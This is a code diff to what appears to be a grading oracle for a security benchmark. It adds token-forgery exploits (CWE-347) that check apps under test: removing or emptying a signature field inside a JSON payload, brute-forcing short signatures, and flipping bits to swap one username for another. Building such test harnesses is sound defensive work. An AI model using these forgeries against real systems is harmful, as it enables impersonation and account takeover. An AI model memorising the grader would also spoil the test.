@@ -10,9 +10,10 @@ import hashlib
 import hmac
 import json
 import re
+import string
 from collections.abc import Callable, Iterator
 from dataclasses import dataclass
-from itertools import islice
+from itertools import islice, product
 from urllib.parse import quote, unquote_to_bytes
 
 from weighbridge.tasks.oracle import App, Proof, exploit, mark, works
@@ -22,6 +23,11 @@ OWN, OTHER = "holiday7photo", "salaries2024x"
 SOON, LATER = 1700000000, 9700000000
 BEFORE, AFTER = 1600000000, 1800000000
 SEPARATORS = r"([.:|~$;,!&\s/]|--)"
+MORE = r"([.:|~$;,!&\s/_-])"
+"""Also what may be a letter of base64."""
+
+MANY = 4_096
+"""Signatures that are worth trying one after the other."""
 
 
 def seed(nonce: str) -> dict[str, bytes | None]:
@@ -50,14 +56,14 @@ Spelling = Callable[[bytes], str]
 def readings(text: str) -> Iterator[tuple[bytes, Spelling]]:
     """What a text may stand for, each with the way to write it again."""
     yield text.encode("latin-1", "replace"), lambda raw: raw.decode("latin-1")
-    padded = text.rstrip("=") + "=" * (-len(text.rstrip("=")) % 4)
-    bare = not text.endswith("=") and len(text) % 4 != 0
-    if re.fullmatch(r"[A-Za-z0-9_=-]{6,}", text):
+    letters = text.rstrip("=")
+    padded, bare = letters + "=" * (-len(letters) % 4), letters == text and len(text) % 4 != 0
+    if len(letters) % 4 != 1 and re.fullmatch(r"[A-Za-z0-9_-]{6,}", letters):
         yield (
             base64.urlsafe_b64decode(padded),
             lambda raw: base64.urlsafe_b64encode(raw).decode().rstrip("=" if bare else ""),
         )
-    if re.fullmatch(r"[A-Za-z0-9+/=]{6,}", text) and re.search("[+/]", text):
+    elif len(letters) % 4 != 1 and re.fullmatch(r"[A-Za-z0-9+/]{6,}", letters):
         yield base64.b64decode(padded), lambda raw: base64.b64encode(raw).decode().rstrip("=" if bare else "")
     if re.fullmatch(r"(?:[0-9a-fA-F]{2}){4,}", text):
         yield bytes.fromhex(text), lambda raw: raw.hex()
@@ -105,7 +111,7 @@ def views(token: str) -> Iterator[View]:
     """Every way to take the token apart that finds the name or the time in it."""
     for whole, wrap in readings(token):
         text = whole.decode("latin-1")
-        for parts in (re.split(SEPARATORS, text), [text]):
+        for parts in (re.split(SEPARATORS, text), re.split(MORE, text), [text]):
             payload: dict[int, tuple[bytes, Spelling]] = {}
             for index, part in enumerate(parts):
                 for raw, spelling in readings(part) if index % 2 == 0 else ():
@@ -172,6 +178,63 @@ def exploit_signature_left_out(app: App) -> Proof | None:
             gone = {index: "", index - 1: ""} if index else {index: "", index + 1: ""}
             if proof := _forged(app, view.build(swap, gone), "another name, signature and separator left out"):
                 return proof
+    return None
+
+
+@exploit(cwe=347)
+def exploit_signature_left_out_of_an_object(app: App) -> Proof | None:
+    """Another name, where the signature is a member of the payload itself, and that member is missing or empty."""
+    for view in views(_token(app)):
+        for raw, _ in view.payload.values():
+            try:
+                whole = json.loads(raw)
+            except (ValueError, RecursionError):
+                continue
+            for key in whole if isinstance(whole, dict) else ():
+                rest = {name: value for name, value in whole.items() if name != key}
+                for changed in (rest, {**rest, key: ""}, {**rest, key: None}):
+
+                    def edit(_: bytes, changed: dict[str, object] = changed) -> bytes:
+                        return swap(json.dumps(changed).encode())
+
+                    if proof := _forged(app, view.build(edit), f"another name, with {key!r} left out or empty"):
+                        return proof
+    return None
+
+
+@exploit(cwe=347)
+def exploit_short_signature(app: App) -> Proof | None:
+    """Another name, and every signature that there can be."""
+    for view in views(_token(app)):
+        for index in view.signatures:
+            shown = view.parts[index]
+            letters = string.ascii_letters + string.digits + "-_"
+            letters = next(one for one in ("0123456789", "0123456789abcdef", "0123456789ABCDEF", letters, shown)
+                           if set(shown) <= set(one))  # fmt: skip
+            if letters == "0123456789" and len(shown) < 4:
+                letters = "0123456789abcdef"  # a short one may hold no letter by chance
+            if len(letters) ** len(shown) > MANY:
+                continue
+            for tried in product(letters, repeat=len(shown)):
+                how = f"another name, and one of {len(letters) ** len(shown):,} possible signatures"
+                if proof := _forged(app, view.build(swap, {index: "".join(tried)}), how):
+                    return proof
+    return None
+
+
+@exploit(cwe=347)
+def exploit_flipped_bits(app: App) -> Proof | None:
+    """The token hides the name under a mask: what is flipped in it is flipped in the name."""
+    token = _token(app)
+    flips = bytes(a ^ b for a, b in zip(OWN.encode(), OTHER.encode(), strict=True))
+    parts = re.split(SEPARATORS, token)
+    for index, part in enumerate(parts):
+        for raw, spelling in readings(part) if len(part) < 600 else ():
+            for at in range(len(raw) - len(flips) + 1):
+                flipped = bytes(a ^ b for a, b in zip(raw[at:], flips, strict=False))
+                changed = [*parts[:index], spelling(raw[:at] + flipped + raw[at + len(flips) :]), *parts[index + 1 :]]
+                if proof := _forged(app, "".join(changed), "bits were flipped where the name is hidden"):
+                    return proof
     return None
 
 
